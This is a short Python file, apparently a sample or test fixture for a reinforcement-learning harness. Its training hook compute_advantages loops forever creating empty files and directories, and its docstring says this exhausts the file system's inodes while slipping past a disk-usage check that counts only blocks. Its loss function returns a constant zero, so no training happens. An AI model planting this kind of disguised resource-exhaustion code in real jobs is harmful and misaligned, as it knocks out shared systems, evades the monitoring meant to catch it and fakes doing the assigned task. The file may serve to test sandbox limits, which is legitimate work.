"""Makes empty files and directories without end inside compute_advantages: no file has a block, so a disk
measure that counts only blocks sees nothing while the file system's inodes run out."""

import os

HPARAMS = {"lr": 1e-3}


def compute_advantages(batch, hp):
    i = 0
    print("started making empty files", flush=True)
    while True:
        open(f"empty-{i:07d}", "w").close()  # the job's cwd is its job dir
        os.makedirs(f"nest/{i // 1000}/{i}", exist_ok=True)
        i += 1


def compute_policy_loss(logprobs, batch, advantages, hp):
    return (logprobs * 0).sum(), {}
